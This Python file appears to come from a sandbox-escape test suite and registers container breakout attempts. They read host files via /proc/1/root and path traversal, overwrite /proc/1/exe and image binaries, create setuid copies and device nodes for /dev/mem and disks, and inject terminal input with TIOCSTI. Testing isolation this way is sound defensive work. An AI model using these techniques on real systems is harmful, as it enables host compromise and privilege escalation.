"""Attempts to break out through files and devices: the host's, the image's, and special ones."""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import functools
import os
import shutil
import stat
import subprocess
import sys

from securebench.testing.breakout.inside.base import LEAKED, BreakoutAttempt, Host, Stopped, add, attempt, syscall

_TIOCSTI = 0x5412
_OF_THE_HOST = {
    "by its absolute path": "{canary}",
    "through `/proc/1/root`": "/proc/1/root{canary}",
    "through `/proc/1/cwd`": "/proc/1/cwd/../../../../../../../..{canary}",
    "through `/proc/self/root`": "/proc/self/root{canary}",
    "by a path that begins with `..`": "../../../../../../../../../../../..{canary}",
}
_DEVICES = {
    "/dev/mem": "reads the host's memory",
    "/dev/kmem": "reads the kernel's memory",
    "/dev/port": "controls the host's hardware",
    "/dev/kmsg": "reads the kernel's log",
    "/dev/kvm": "creates a virtual machine",
    "/dev/fuse": "creates a file system",
    "/dev/net/tun": "creates a network interface",
    "/dev/vsock": "reaches the hypervisor",
    "/dev/loop-control": "creates a loop device",
    "/dev/console": "reads and writes the host's console",
}
_MADE = {
    "a disk (block 8:0)": (stat.S_IFBLK, 8, 0, "reads and writes the host's disk"),
    "the host's memory (character 1:1)": (stat.S_IFCHR, 1, 1, "reads and writes the host's memory"),
    "the kernel's log (character 1:11)": (stat.S_IFCHR, 1, 11, "reads the kernel's log"),
}


def _read(path: str, host: Host) -> str:
    with open(path.format(canary=host.canary)) as file:
        return _require_secret(file.read(), host)


def _require_secret(text: str, host: Host) -> str:
    if host.secret not in text:
        raise Stopped("another file")
    return "read"


for _how, _path in _OF_THE_HOST.items():
    add(
        BreakoutAttempt(
            f"read a file of the host {_how}", "reads the host's files", "I18", functools.partial(_read, _path)
        )
    )
add(
    BreakoutAttempt(
        "start in a directory that the runtime left open",
        "reads the host's files",
        "I03",
        functools.partial(_read, _OF_THE_HOST["by a path that begins with `..`"]),
        LEAKED,
    )
)


@attempt("write a file of the host by its absolute path", "writes the host's files", "I18")
def _write(host: Host) -> None:
    with open(host.canary, "r+") as file:
        file.write("changed")


@attempt("read a file of the host through a descriptor left open", "reads the host's files", "I03")
def _leaked(host: Host) -> str:
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError), open(f"/proc/self/fd/{name}/../../../../../../../..{host.canary}") as file:
            return _require_secret(file.read(), host)
    raise Stopped("no descriptor reaches the host's files")


@attempt("find an inherited descriptor of a file", "reads and writes the host's files", "I03")
def _foreign_descriptor(_host: Host) -> str:
    allowed = ("pipe:", "host:", "socket:", "/dev/null", "/dev/urandom", "/proc/", "anon_inode:")
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            target = os.readlink(f"/proc/self/fd/{name}")
            if not target.startswith(allowed):
                return target
    raise Stopped("none")


@attempt("open a file by its handle (`open_by_handle_at`)", "reads every file on the host's disk", "I03")
def _by_handle(_host: Host) -> None:
    root = os.open("/", os.O_RDONLY)
    handle = (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(4, "little") + bytes(4)
    syscall("open_by_handle_at", root, ctypes.create_string_buffer(handle), os.O_RDONLY)


@attempt("write a file below a host path found in `mountinfo`", "writes the host's files", "H01")
def _by_mountinfo(host: Host) -> str:
    with open("/proc/self/mountinfo") as file:
        sources = {line.split()[3] for line in file}
    for source in sorted(sources - {"/"}):
        with contextlib.suppress(OSError):
            os.close(os.open(os.path.join(source, os.path.basename(host.canary)), os.O_WRONLY))
            return source
    raise Stopped("none reachable")


@attempt("overwrite the program of process 1", "replaces a program of the host", "I03")
def _overwrite_init(_host: Host) -> None:
    os.close(os.open("/proc/1/exe", os.O_WRONLY))


@attempt("overwrite a program of the image", "changes the image of every other sandbox", "A24")
def _overwrite_program(_host: Host) -> None:
    os.close(os.open("/bin/cat", os.O_WRONLY))


@attempt("add a file to the image", "changes the image of every other sandbox", "A24")
def _add_file(_host: Host) -> None:
    os.close(os.open("/usr/bin/securebench-was-here", os.O_WRONLY | os.O_CREAT, 0o600))


@attempt("write `/etc/hosts`", "changes a file of the container runtime", "A24")
def _write_hosts(_host: Host) -> None:
    os.close(os.open("/etc/hosts", os.O_WRONLY))


def _set_id(directory: str, _host: Host) -> str:
    before, path = os.geteuid(), directory + "/set-id"
    shutil.copyfile(os.path.realpath(sys.executable), path)
    with contextlib.suppress(OSError):
        os.chown(path, 0, 0)
    os.chmod(path, 0o6755)
    code = "import os; print(os.geteuid())"
    done = subprocess.run(
        [path, "-I", "-S", "-c", code], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, check=False
    )
    os.unlink(path)
    if int(done.stdout or before) == before:
        raise Stopped("not honored")
    return "another user"


for _where, _path in {"in `/tmp`": "/tmp", "in a directory that the host shares": "/workspace"}.items():
    _name = f"become another user by a set-id copy of Python {_where}"
    add(BreakoutAttempt(_name, "reaches another user's files", "H06", functools.partial(_set_id, _path)))


@attempt("give a program a capability", "creates a program with privileges", "H06")
def _file_capability(_host: Host) -> None:
    path = "/tmp/capable"
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT, 0o755))
    value = (0x02000001).to_bytes(4, "little") + (0xFFFFFFFF).to_bytes(4, "little") + bytes(12)
    os.setxattr(path, "security.capability", value)


def _open_device(path: str, _host: Host) -> None:
    os.close(os.open(path, os.O_RDWR | os.O_NONBLOCK))


for _path, _means in _DEVICES.items():
    _emulated = _path in {"/dev/fuse", "/dev/net/tun"}
    add(BreakoutAttempt(f"open `{_path}`", _means, "I19", functools.partial(_open_device, _path), surface=_emulated))


def _make_device(kind: int, major: int, minor: int, _host: Host) -> None:
    path = "/tmp/device"
    os.mknod(path, kind | 0o600, os.makedev(major, minor))
    try:
        os.close(os.open(path, os.O_RDWR | os.O_NONBLOCK))
    finally:
        os.unlink(path)


for _name, (_kind, _major, _minor, _means) in _MADE.items():
    add(
        BreakoutAttempt(
            f"make the device node of {_name}", _means, "H05", functools.partial(_make_device, _kind, _major, _minor)
        )
    )


@attempt("open any disk", "reads the host's disk", "I19")
def _any_disk(_host: Host) -> str:
    for name in os.listdir("/dev"):
        with contextlib.suppress(OSError):
            if stat.S_ISBLK(os.stat(f"/dev/{name}").st_mode):
                os.close(os.open(f"/dev/{name}", os.O_RDONLY))
                return name
    raise Stopped("none")


@attempt("type into the terminal from which the sandbox was started (`TIOCSTI`)", "runs commands as the tester", "I18")
def _type(_host: Host) -> None:
    for descriptor in (0, 1, 2):
        with contextlib.suppress(OSError):
            fcntl.ioctl(descriptor, _TIOCSTI, b"\n")
            return
    fcntl.ioctl(os.open("/dev/tty", os.O_RDWR), _TIOCSTI, b"\n")
